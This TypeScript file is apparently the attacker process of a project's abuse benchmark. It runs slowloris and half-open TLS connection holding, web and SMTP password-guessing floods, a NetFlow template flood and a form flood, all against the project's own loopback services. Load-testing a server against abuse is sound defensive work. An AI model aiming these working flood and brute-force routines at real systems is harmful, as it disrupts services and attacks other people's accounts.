/**
 * The attacker of bench/abuse, its own process so that its sockets and CPU are not the legitimate
 * clients' event loop:
 *
 *   node --import tsx bench/abuse/attack.ts KIND '{"seconds":15,…}'
 *
 * It attacks until its standard input closes or `seconds` (plus a margin) have passed, then
 * closes every socket it holds and prints one JSON line: counters of what it did and what it
 * got back. Everything is bounded: sockets held, workers, datagrams per second. Attackers come
 * from loopback addresses 127.1.N.M (attackerAddresses), never from 127.0.0.1.
 */
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { connect, type Socket } from "node:net";
import { attackerAddresses, http, postHelpReport, SmtpDialogue } from "./net.js";
import { templateFlood, templatesPerDatagram } from "./netflow.js";

export type AttackKind = "slowloris" | "half-open-tls" | "login-flood" | "template-flood" | "form-flood";

export interface AttackOptions {
  readonly seconds: number;
  /** Attacker source addresses (attackerAddresses). */
  readonly sources: number;
  readonly smtpPort: number;
  readonly tlsPort: number;
  readonly webPort: number;
  readonly collectorPort: number;
  readonly slowlorisSessions: number;
  readonly noopSeconds: number;
  readonly halfOpenSockets: number;
  readonly webWorkers: number;
  readonly smtpWorkers: number;
  readonly victimOperator: string;
  readonly victimMailUser: string;
  readonly mailDomain: string;
  readonly floodRate: number;
  readonly floodSockets: number;
  readonly floodBytes: number;
  readonly formWorkers: number;
  readonly formPath: string;
}

export interface AttackReport {
  /** What the volume counts (connections, requests, datagrams). */
  readonly unit: string;
  readonly volume: number;
  /** Every counter by name: replies by code, sockets held at the peak … */
  readonly counters: Record<string, number>;
  readonly seconds: number;
}

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

class Counters {
  readonly values: Record<string, number> = {};
  add(name: string, n = 1): void {
    this.values[name] = (this.values[name] ?? 0) + n;
  }
  max(name: string, value: number): void {
    if (value > (this.values[name] ?? 0)) this.values[name] = value;
  }
}

/** When the attack ends: stdin closed, or the deadline. */
class Stop {
  stopped = false;
  private readonly waiters: (() => void)[] = [];
  readonly done: Promise<void>;
  constructor(seconds: number) {
    this.done = new Promise((resolve) => this.waiters.push(resolve));
    const end = () => this.stop();
    process.stdin.on("end", end);
    process.stdin.on("close", end);
    process.stdin.resume();
    setTimeout(end, (seconds + 10) * 1000).unref();
  }
  stop(): void {
    if (this.stopped) return;
    this.stopped = true;
    for (const waiter of this.waiters) waiter();
  }
}

/**
 * Holds unauthenticated sessions on the STARTTLS port: EHLO, then a NOOP every `noopSeconds`
 * (with jitter) so that no idle timeout ends them; one that is closed is opened again after a
 * pause, from the same address.
 */
async function slowloris(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  const sockets = new Set<Socket>();
  /** Sockets the server has said something to (220 or 421). */
  const answered = new WeakSet<Socket>();
  let held = 0;
  const open = (i: number) => {
    if (stop.stopped) return;
    c.add("connections opened");
    const socket = connect({
      host: "127.0.0.1",
      port: o.smtpPort,
      localAddress: sources[i % sources.length],
    });
    sockets.add(socket);
    let greeted = false;
    let timer: NodeJS.Timeout | undefined;
    socket.once("data", () => answered.add(socket));
    let seen = "";
    socket.setEncoding("latin1");
    socket.on("data", (chunk: string) => {
      if (greeted) return;
      seen += chunk;
      if (!seen.includes("\n")) return;
      if (seen.startsWith("220")) {
        greeted = true;
        held++;
        c.add("greeted (220)");
        c.max("sessions held at the peak", held);
        socket.write("EHLO slow.example\r\n");
        const noop = () => {
          socket.write("NOOP\r\n");
          timer = setTimeout(noop, o.noopSeconds * 1000 * (0.8 + Math.random() * 0.4));
        };
        timer = setTimeout(noop, o.noopSeconds * 1000 * Math.random());
      } else {
        c.add(`refused (${seen.slice(0, 3)})`);
      }
    });
    socket.on("error", (error: NodeJS.ErrnoException) => c.add(`error ${error.code ?? error.message}`));
    socket.on("close", () => {
      sockets.delete(socket);
      clearTimeout(timer);
      if (greeted) {
        held--;
        if (!stop.stopped) c.add("held sessions closed by the server");
      }
      if (!stop.stopped) setTimeout(() => open(i), 500 + Math.random() * 500);
    });
  };
  // Opened in steps of 100 so that the listen backlog is not what refuses them.
  for (let i = 0; i < o.slowlorisSessions && !stop.stopped; i++) {
    open(i);
    if (i % 100 === 99) await sleep(50);
  }
  await stop.done;
  c.values["sessions held at the end"] = held;
  c.values["connected, not yet greeted at the end"] = [...sockets].filter(
    (s) => !s.connecting && !answered.has(s),
  ).length;
  for (const socket of sockets) socket.destroy();
}

/** The first 10 bytes of a TLS 1.2 ClientHello record: record header and handshake header. */
const CLIENT_HELLO_START = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03]);

/** Sockets to the implicit-TLS port that send 10 bytes of a ClientHello and then nothing. */
async function halfOpenTls(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  const sockets = new Set<Socket>();
  let held = 0;
  const open = (i: number) => {
    if (stop.stopped) return;
    c.add("connections opened");
    const socket = connect({ host: "127.0.0.1", port: o.tlsPort, localAddress: sources[i % sources.length] });
    sockets.add(socket);
    let connected = false;
    socket.on("connect", () => {
      connected = true;
      held++;
      c.max("sockets held at the peak", held);
      socket.write(CLIENT_HELLO_START);
    });
    socket.on("data", () => c.add("bytes answered"));
    socket.on("error", (error: NodeJS.ErrnoException) => c.add(`error ${error.code ?? error.message}`));
    socket.on("close", () => {
      sockets.delete(socket);
      if (connected) {
        held--;
        if (!stop.stopped) c.add("closed by the server");
      }
      if (!stop.stopped) setTimeout(() => open(i), 250 + Math.random() * 250);
    });
  };
  for (let i = 0; i < o.halfOpenSockets && !stop.stopped; i++) {
    open(i);
    if (i % 200 === 199) await sleep(50);
  }
  await stop.done;
  for (const socket of sockets) socket.destroy();
}

/** Wrong passwords: half for one existing account, half for ever new names. */
function guess(n: number, victim: string, domain?: string): string {
  if (n % 2 === 0) return victim;
  const name = `user${Math.floor(Math.random() * 1e6)}`;
  return domain ? `${name}@${domain}` : name;
}

async function webLogins(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  let n = 0;
  const worker = async (w: number) => {
    while (!stop.stopped) {
      const i = n++;
      const source = sources[(w + i) % sources.length] as string;
      c.add("web logins sent");
      try {
        const answer = await http({
          port: o.webPort,
          path: "/api/login",
          method: "POST",
          localAddress: source,
          headers: { "content-type": "application/json", origin: `http://127.0.0.1:${o.webPort}` },
          body: JSON.stringify({ username: guess(i, o.victimOperator), password: `wrong-${i}` }),
          timeoutMs: 15_000,
        });
        c.add(`web login ${answer.status}`);
      } catch (error) {
        c.add(`web login error ${(error as Error).message}`);
        await sleep(100);
      }
    }
  };
  await Promise.all(Array.from({ length: o.webWorkers }, (_, w) => worker(w)));
}

async function smtpLogins(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  let n = 0;
  let sessions = 0;
  const worker = async (w: number) => {
    while (!stop.stopped) {
      const source = sources[(w + sessions++) % sources.length] as string;
      let dialogue: SmtpDialogue | undefined;
      try {
        dialogue = await SmtpDialogue.open({ port: o.smtpPort, localAddress: source });
        c.add("smtp connections");
        const greeting = await dialogue.reply();
        if (greeting?.code !== 220) {
          c.add(`smtp greeting ${greeting?.code ?? "none"}`);
          await sleep(100);
          continue;
        }
        await dialogue.command("EHLO guess.example");
        if ((await dialogue.command("STARTTLS"))?.code !== 220) continue;
        await dialogue.startTls();
        await dialogue.command("EHLO guess.example");
        // Guesses on one session until the server hangs up (or 20 of them).
        for (let k = 0; k < 20 && !stop.stopped && !dialogue.isClosed; k++) {
          const i = n++;
          const user = guess(i, o.victimMailUser, o.mailDomain);
          const plain = Buffer.from(`\0${user}\0wrong-${i}`).toString("base64");
          c.add("smtp AUTH sent");
          const answer = await dialogue.command(`AUTH PLAIN ${plain}`, 15_000);
          c.add(`smtp AUTH ${answer?.code ?? "no answer"}`);
          if (!answer) break;
        }
      } catch (error) {
        c.add(`smtp error ${(error as Error).message}`);
        await sleep(100);
      } finally {
        dialogue?.close();
      }
    }
  };
  await Promise.all(Array.from({ length: o.smtpWorkers }, (_, w) => worker(w)));
}

/** Wrong passwords at the console's /api/login and at submission's AUTH, at once. */
async function loginFlood(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  await Promise.all([webLogins(o, stop, c), smtpLogins(o, stop, c)]);
}

/**
 * Datagrams of one-field templates, each in a new observation domain (IPFIX) or source id (v9),
 * from `floodSockets` sockets on several loopback addresses, paced at `floodRate` a second.
 */
async function templateFloodAttack(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  const sockets: UdpSocket[] = [];
  for (let i = 0; i < o.floodSockets; i++) {
    const socket = createSocket({ type: "udp4", sendBufferSize: 4 * 1024 * 1024 });
    socket.on("error", (error: NodeJS.ErrnoException) => c.add(`error ${error.code ?? error.message}`));
    await new Promise<void>((resolve) =>
      socket.bind({ address: sources[i % sources.length] as string, port: 0 }, resolve),
    );
    await new Promise<void>((resolve) => socket.connect(o.collectorPort, "127.0.0.1", resolve));
    sockets.push(socket);
  }
  const counts = { 9: templatesPerDatagram(9, o.floodBytes), 10: templatesPerDatagram(10, o.floodBytes) };
  const start = performance.now();
  let sent = 0;
  let domain = 1_000_000;
  await new Promise<void>((resolve) => {
    const pump = () => {
      if (stop.stopped) return resolve();
      const due = Math.floor(((performance.now() - start) * o.floodRate) / 1000) + 1;
      const now = Date.now();
      // At most a second's worth at once, should this process fall behind.
      for (let k = 0; sent < due && k < o.floodRate; k++) {
        const version = sent % 2 === 0 ? 10 : 9;
        const packet = templateFlood(version, domain++, counts[version], now);
        (sockets[sent % sockets.length] as UdpSocket).send(packet);
        c.add("templates offered", counts[version]);
        sent++;
      }
      c.values["datagrams sent"] = sent;
      setTimeout(pump, 1);
    };
    pump();
  });
  for (const socket of sockets) socket.close();
}

/** The help form, fetched for its token and cookie and posted, by `formWorkers` at once. */
async function formFlood(o: AttackOptions, stop: Stop, c: Counters): Promise<void> {
  const sources = attackerAddresses(o.sources);
  let n = 0;
  const worker = async (w: number) => {
    while (!stop.stopped) {
      const i = n++;
      try {
        const answer = await postHelpReport({
          port: o.webPort,
          path: o.formPath,
          localAddress: sources[(w + i) % sources.length] as string,
          note: `flood ${i}`,
          timeoutMs: 15_000,
        });
        c.add("reports posted");
        c.add(`report ${answer.status}`);
      } catch (error) {
        c.add(`report error ${(error as Error).message}`);
        await sleep(100);
      }
    }
  };
  await Promise.all(Array.from({ length: o.formWorkers }, (_, w) => worker(w)));
}

const ATTACKS: Record<AttackKind, { unit: string; volume: string[]; run: typeof slowloris }> = {
  slowloris: { unit: "connections", volume: ["connections opened"], run: slowloris },
  "half-open-tls": { unit: "connections", volume: ["connections opened"], run: halfOpenTls },
  "login-flood": { unit: "password guesses", volume: ["web logins sent", "smtp AUTH sent"], run: loginFlood },
  "template-flood": { unit: "datagrams", volume: ["datagrams sent"], run: templateFloodAttack },
  "form-flood": { unit: "POSTs", volume: ["reports posted"], run: formFlood },
};

async function main(): Promise<void> {
  const [kind, json] = process.argv.slice(2);
  const attack = ATTACKS[kind as AttackKind];
  if (!attack || !json) throw new Error(`usage: attack.ts ${Object.keys(ATTACKS).join("|")} JSON`);
  const options = JSON.parse(json) as AttackOptions;
  const stop = new Stop(options.seconds);
  // Loading this file took a while on a busy machine: the bench times the attack from here.
  process.stdout.write("ready\n");
  const counters = new Counters();
  const started = performance.now();
  // Workers blocked on an answer are not waited for: past the stop, the process exits with them.
  const ran = attack.run(options, stop, counters);
  await Promise.race([ran, stop.done.then(() => sleep(1000))]);
  const report: AttackReport = {
    unit: attack.unit,
    volume: attack.volume.reduce((n, name) => n + (counters.values[name] ?? 0), 0),
    counters: counters.values,
    seconds: (performance.now() - started) / 1000,
  };
  process.stdout.write(`${JSON.stringify(report)}\n`);
  process.exit(0);
}

if (process.argv[1]?.endsWith("attack.ts")) await main();
